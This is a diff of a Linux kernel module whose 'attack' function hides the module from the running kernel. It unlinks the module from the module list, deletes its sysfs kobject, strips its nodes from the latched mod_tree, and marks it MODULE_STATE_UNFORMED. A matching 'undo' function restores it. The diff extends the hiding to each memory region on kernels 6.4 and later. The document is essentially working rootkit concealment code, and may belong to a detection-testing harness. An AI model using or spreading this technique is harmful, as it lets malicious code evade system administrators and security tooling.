@@ -8,22 +8,14 @@
 #include <linux/rbtree_latch.h>
 
 static struct list_head *before;
-static enum module_state state;
 
-static void in_tree(bool in)
+static void node_in_tree(struct latch_tree_root *tree, struct latch_tree_node *node, bool in)
 {
-	struct latch_tree_root *tree = (struct latch_tree_root *)symbol("mod_tree");
-	struct module *module = THIS_MODULE;
-#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
-	struct latch_tree_node *node = &module->mem[MOD_TEXT].mtn.node;
-#else
-	struct latch_tree_node *node = &module->core_layout.mtn.node;
-#endif
 	int copy;
 
 	/* Both copies of the latched tree; the root is the first thing in mod_tree behind a
 	 * counter. */
-	for (copy = 0; tree && copy < 2; copy++) {
+	for (copy = 0; copy < 2; copy++) {
 		struct rb_root *root = &tree->tree[copy];
 		struct rb_node **link = &root->rb_node, *parent = NULL;
 		struct rb_node *ours = &node->node[copy];
@@ -42,18 +34,38 @@ static void in_tree(bool in)
 	}
 }
 
+/* Each part of a module's memory has a place of its own in the tree since 6.4. */
+static void in_tree(bool in)
+{
+	struct latch_tree_root *tree = (struct latch_tree_root *)symbol("mod_tree");
+	struct module *module = THIS_MODULE;
+
+	if (!tree)
+		return;
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	for_each_mod_mem_type(type) {
+		/* What is for loading alone has been given back. */
+		if (module->mem[type].size && !mod_mem_type_is_init(type))
+			node_in_tree(tree, &module->mem[type].mtn.node, in);
+	}
+#else
+	node_in_tree(tree, &module->core_layout.mtn.node, in);
+#endif
+}
+
 static int attack(void)
 {
 	before = THIS_MODULE->list.prev;
 	list_del(&THIS_MODULE->list);
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	in_tree(false);
-	state = THIS_MODULE->state;
+	THIS_MODULE->state = MODULE_STATE_UNFORMED;
 	return 0;
 }
 
 static void undo(void)
 {
+	THIS_MODULE->state = MODULE_STATE_LIVE;
 	in_tree(true);
 	list_add(&THIS_MODULE->list, before);
 	if (kobject_add(&THIS_MODULE->mkobj.kobj, THIS_MODULE->mkobj.kobj.parent, "%s",
